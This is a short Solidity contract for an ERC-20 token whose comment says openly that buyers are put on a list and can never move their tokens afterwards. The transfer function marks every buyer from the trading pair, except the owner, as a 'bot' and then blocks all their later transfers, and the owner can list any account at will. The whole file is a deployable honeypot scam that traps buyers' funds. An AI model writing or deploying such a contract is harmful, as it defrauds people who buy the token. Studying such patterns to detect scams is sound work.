// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";
import {Traded} from "./base/Traded.sol";

/// Buyers land on a list while they buy, and cannot move anything from then on.
contract BlacklistToken is Traded {
    mapping(address => bool) public isBot;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function setBot(address account, bool listed) external onlyOwner {
        isBot[account] = listed;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!isBot[from], "bot");
        if (from == pair && to != owner) isBot[to] = true;
        _move(from, to, amount);
    }
}
